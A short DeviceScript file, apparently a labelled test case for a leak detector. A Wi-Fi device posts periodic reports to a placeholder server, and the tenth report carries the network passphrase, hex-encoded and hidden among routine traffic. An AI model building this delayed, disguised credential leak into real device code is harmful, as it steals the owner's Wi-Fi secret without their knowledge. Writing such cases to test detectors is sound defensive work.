// G83: a report that sets its own next one; the tenth tells the passphrase.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

let count = 0;

paired(async (_ssid, psk) => {
  async function report() {
    const body = ++count === 10 ? Buffer.from(psk).toString("hex") : `report ${count}`;
    const response = await fetch("https://cloud.example/g83", { method: "POST", body }); // leak: wifi.psk
    await response.close();
    setTimeout(report, 15_000);
  }
  await report();
});
